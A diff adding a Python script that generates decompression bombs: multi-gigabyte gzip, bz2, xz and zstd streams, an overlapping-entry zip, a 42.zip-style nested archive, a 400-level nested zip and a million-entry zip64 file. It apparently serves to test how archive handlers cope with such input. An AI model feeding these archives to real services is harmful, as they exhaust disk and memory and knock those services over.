@@ -1,0 +1,117 @@
+#!/usr/bin/env python3
+"""Archives that unpack to far more than they are, made cheaply.
+
+    bombs.py FOLDER [SIZE_IN_MB]
+
+Whole compressed members are repeated where the format allows it, so that 10 GB
+of zeros take a moment to write. Prints the name of each file made.
+"""
+
+import bz2
+import gzip
+import io
+import lzma
+import os
+import struct
+import subprocess
+import sys
+import zipfile
+import zlib
+
+MB = 1 << 20
+
+
+def write(folder, name, pieces):
+    with open(os.path.join(folder, name), "wb") as out:
+        for piece in pieces:
+            out.write(piece)
+    print(name)
+
+
+def zeros(megabytes, step):
+    """How often a member of `step` megabytes is repeated."""
+    return max(1, megabytes // step)
+
+
+def overlapping(megabytes):
+    """Members that all use the same compressed bytes."""
+    body = zlib.compressobj(9, zlib.DEFLATED, -15)
+    packed = body.compress(bytes(64 * MB)) + body.flush()
+    crc = zlib.crc32(bytes(64 * MB))
+    count = zeros(megabytes, 64)
+    local = b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, crc, len(packed), 64 * MB, 1, 0) + b"z"
+    central = b""
+    for number in range(count):
+        name = b"%d" % number
+        central += b"PK\x01\x02" + struct.pack(
+            "<HHHHHHIIIHHHHHII", 20, 20, 0, 8, 0, 0, crc, len(packed), 64 * MB,
+            len(name), 0, 0, 0, 0, 0, 0) + name
+    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(central), len(local) + len(packed), 0)
+    return [local, packed, central, end]
+
+
+def zipped(members, level=9):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
+        for name, content in members:
+            archive.writestr(name, content)
+    return out.getvalue()
+
+
+def nested(megabytes):
+    """Sixteen archives in each, five levels deep, as 42.zip is made."""
+    inner = zipped([("0.dll", bytes(min(megabytes, 256) * MB))])
+    for level in range(5):
+        inner = zipped([(f"{level}-{n}.zip", inner) for n in range(16)])
+    return [inner]
+
+
+def deep(levels):
+    """Archives inside each other, far beyond any sensible depth."""
+    inner = zipped([("end.txt", b"end")])
+    for level in range(levels):
+        inner = zipped([(f"{level}.zip", inner)])
+    return [inner]
+
+
+def many(count):
+    """An archive of so many empty members, with 64-bit records."""
+    local = io.BytesIO()
+    central = io.BytesIO()
+    for number in range(count):
+        name = b"%x" % number
+        offset = local.tell()
+        local.write(b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name)
+        central.write(b"PK\x01\x02" + struct.pack(
+            "<HHHHHHIIIHHHHHII", 20, 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0, 0, 0, 0, 0, offset) + name)
+    start, size = local.tell(), central.tell()
+    end64 = b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, count, count, size, start)
+    locator = b"PK\x06\x07" + struct.pack("<IQI", 0, start + size, 1)
+    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 0xFFFF, 0xFFFF, size, start, 0)
+    return [local.getvalue(), central.getvalue(), end64, locator, end]
+
+
+def main():
+    folder = sys.argv[1]
+    megabytes = int(sys.argv[2]) if len(sys.argv) > 2 else 10_000
+    os.makedirs(folder, exist_ok=True)
+    step = min(64, megabytes)
+    block = bytes(step * MB)
+    times = zeros(megabytes, step)
+    write(folder, "flat.gz", [gzip.compress(block)] * times)
+    write(folder, "flat.bz2", [bz2.compress(block)] * times)
+    write(folder, "flat.xz", [lzma.compress(block, preset=0)] * times)
+    try:
+        packed = subprocess.run(["zstd", "-q", "-c"], input=block, capture_output=True, check=True)
+        write(folder, "flat.zst", [packed.stdout] * times)
+    except (OSError, subprocess.CalledProcessError):
+        print("skipped: flat.zst (no zstd)")
+    write(folder, "flat.zip", [zipped([(str(n), block) for n in range(min(times, 20))])])
+    write(folder, "overlapping.zip", overlapping(megabytes))
+    write(folder, "nested.zip", nested(megabytes))
+    write(folder, "deep.zip", deep(400))
+    write(folder, "entries.zip", many(1_000_000 if megabytes >= 1000 else 100 * megabytes))
+
+
+if __name__ == "__main__":
+    main()
